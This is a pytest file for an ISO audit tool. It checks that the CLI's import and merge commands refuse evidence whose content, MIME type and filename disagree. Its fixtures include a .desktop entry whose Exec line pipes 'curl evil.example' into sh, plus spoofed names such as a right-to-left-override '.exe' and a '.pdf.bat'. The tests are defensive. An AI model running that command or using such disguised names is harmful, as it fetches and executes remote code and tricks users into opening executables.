"""Foreign evidence at the doors: `import` and `merge` refuse files whose content, type and name disagree."""

from __future__ import annotations

import io
import json
import sqlite3
from pathlib import Path

import pytest
from PIL import Image
from test_cli import cli

from auditor_app.domain.checklist import clause_id
from auditor_app.services import audit, evidence, queries
from auditor_app.services.session import AuditSession, Tx, new_id

CLAUSE = clause_id("iso9001-2015", "7.1.5.2")
DESKTOP = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example | sh'\n"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (20, 120, 200)).save(out, "JPEG")
    return out.getvalue()


def plant(tx: Tx, data: bytes, filename: str, mime: str) -> str:
    """Evidence written the way a tampered program could: blob and operations, none of the checks of adding."""
    digest = evidence.store_blob(tx, data, mime)
    return tx.create("evidence", new_id(), {"sha256": digest, "filename": filename, "mime": mime, "size": len(data),
                                            "clause_id": CLAUSE, "rotation": 0})


def audit_with(make_audit, data: bytes, filename: str, mime: str, *, deleted: bool = False  # type: ignore[no-untyped-def]
               ) -> tuple[Path, str]:
    session: AuditSession = make_audit(name="planted.audit")

    def add(tx: Tx) -> str:
        evidence.attach_evidence(tx, jpeg(), "IMG_0001.jpg", clause_id=CLAUSE)  # a good neighbour
        planted = plant(tx, data, filename, mime)
        if deleted:
            tx.delete("evidence", planted)
        return planted

    with session.transaction() as tx:
        planted = add(tx)
    path = session.path
    session.close()
    return path, planted


def op_count(path: Path) -> int:
    with sqlite3.connect(path) as conn:
        return int(conn.execute("SELECT count(*) FROM op").fetchone()[0])


@pytest.mark.parametrize(("data", "filename", "mime", "problem"), [
    (DESKTOP, "photo.desktop", "image/jpeg", "its content is not a supported evidence file"),
    (PDF, "invoice.pdf.bat", "application/pdf", "its name ends in .bat, but it is application/pdf"),
    (jpeg(), "photo.jpg", "application/pdf", "it is recorded as application/pdf, but its content is image/jpeg"),
    (PDF, "invoice\u202efdp.exe", "application/pdf", "control or text-direction characters"),
    (PDF, "scan.pdf.", "application/pdf", "ends in a dot or a space"),
])
def test_import_refuses_evidence_whose_content_type_or_name_disagree(  # type: ignore[no-untyped-def]
        make_audit, tmp_path: Path, data: bytes, filename: str, mime: str, problem: str) -> None:
    path, planted = audit_with(make_audit, data, filename, mime)
    document = tmp_path / "doc.json"
    assert cli("export", path, "--json", document).returncode == 0
    target = tmp_path / "imported.audit"
    result = cli("import", document, target)
    assert result.returncode == 1
    line = result.stderr.strip()
    assert "\n" not in line and "internal error" not in line
    assert str(document) in line and f"evidence {planted[:8]}… ({filename})" in line and problem in line
    assert "nothing was imported" in line
    assert not target.exists()


def test_import_refuses_a_deleted_item_too_since_undo_would_bring_it_back(make_audit, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path, planted = audit_with(make_audit, DESKTOP, "photo.desktop", "image/jpeg", deleted=True)
    document = tmp_path / "doc.json"
    assert cli("export", path, "--json", document).returncode == 0
    result = cli("import", document, tmp_path / "imported.audit")
    assert result.returncode == 1 and f"evidence {planted[:8]}… (photo.desktop)" in result.stderr
    assert not (tmp_path / "imported.audit").exists()


def test_import_judges_each_item_by_its_current_name(make_audit, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """An older audit renamed a file after adding it: only the latest name counts."""
    session: AuditSession = make_audit(name="renamed.audit")
    with session.transaction() as tx:
        item = plant(tx, PDF, "Prüfbericht.pdf.bat", "application/pdf")
    session.run(lambda tx: tx.set("evidence", item, {"filename": "Prüfbericht.pdf"}))
    path = session.path
    session.close()
    document = tmp_path / "doc.json"
    assert cli("export", path, "--json", document).returncode == 0
    result = cli("import", document, tmp_path / "imported.audit")
    assert result.returncode == 0, result.stderr
    assert cli("check", tmp_path / "imported.audit").returncode == 0


def test_added_files_get_a_name_that_fits_their_content_so_their_audit_imports_again(  # type: ignore[no-untyped-def]
        make_audit, tmp_path: Path) -> None:
    session: AuditSession = make_audit(name="added.audit")
    with session.transaction() as tx:
        scan = evidence.attach_evidence(tx, PDF, "Bericht v1.2", clause_id=CLAUSE)
        photo = evidence.attach_evidence(tx, jpeg(), "Waage.png", clause_id=CLAUSE)
        plain = evidence.attach_evidence(tx, jpeg(), "IMG_0002.JPG", clause_id=CLAUSE)
        names = {e: tx.state("evidence", e).value("filename") for e in (scan, photo, plain)}
    assert names == {scan: "Bericht v1.2.pdf", photo: "Waage.png.jpg", plain: "IMG_0002.JPG"}
    path = session.path
    session.close()
    document = tmp_path / "doc.json"
    assert cli("export", path, "--json", document).returncode == 0
    assert cli("import", document, tmp_path / "again.audit").returncode == 0


def test_merge_refuses_a_member_file_with_a_disguised_evidence_file(make_audit, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lead: AuditSession = make_audit(name="lead.audit", author="Lena Lead")
    lead_path = lead.path
    lead.close()
    member = tmp_path / "anna.audit"
    assert cli("handover", lead_path, member, "--member", "Anna").returncode == 0
    session = audit.open_audit(member, author="Anna")
    with session.transaction() as tx:
        evidence.attach_evidence(tx, jpeg(), "IMG_0003.jpg", clause_id=CLAUSE)
        planted = plant(tx, PDF, "invoice.pdf.bat", "application/pdf")
    session.close()
    before, ops = lead_path.read_bytes(), op_count(lead_path)
    result = cli("merge", lead_path, member)
    assert result.returncode == 1 and "internal error" not in result.stderr
    line = result.stderr.strip()
    assert "\n" not in line and "anna.audit" in line and f"evidence {planted[:8]}… (invoice.pdf.bat)" in line
    assert "its name ends in .bat" in line and "nothing was merged" in line
    assert op_count(lead_path) == ops and lead_path.read_bytes() == before
    out = tmp_path / "merged.audit"
    assert cli("merge", lead_path, member, "-o", out).returncode == 1 and not out.exists()


def test_merge_of_good_evidence_still_works(make_audit, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    lead: AuditSession = make_audit(name="lead.audit", author="Lena Lead")
    lead_path = lead.path
    lead.close()
    member = tmp_path / "ben.audit"
    assert cli("handover", lead_path, member, "--member", "Ben").returncode == 0
    session = audit.open_audit(member, author="Ben")
    session.run(evidence.attach_evidence, PDF, "Kalibrierschein.pdf", clause_id=CLAUSE)
    session.close()
    result = cli("merge", lead_path, member)
    assert result.returncode == 0, result.stderr
    info = json.loads(cli("info", lead_path, "--json").stdout)
    assert info["evidence"] == 1


def test_merge_takes_a_caption_edit_on_an_older_item_the_lead_already_holds(make_audit, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """An item an older version added under a name without extension brings no new file when its caption changes."""
    lead: AuditSession = make_audit(name="lead.audit", author="Lena Lead")
    with lead.transaction() as tx:
        older = plant(tx, PDF, "Bericht v1", "application/pdf")
    lead_path = lead.path
    lead.close()
    member = tmp_path / "ben.audit"
    assert cli("handover", lead_path, member, "--member", "Ben").returncode == 0
    session = audit.open_audit(member, author="Ben")
    session.run(lambda tx: tx.set("evidence", older, {"caption": "Prüfbericht der Waage"}))
    session.close()
    result = cli("merge", lead_path, member)
    assert result.returncode == 0, result.stderr
    merged = audit.open_audit(lead_path, author="Lena Lead")
    try:
        assert [(e.filename, e.caption) for e in queries.evidence(merged)] == [("Bericht v1", "Prüfbericht der Waage")]
    finally:
        merged.close()
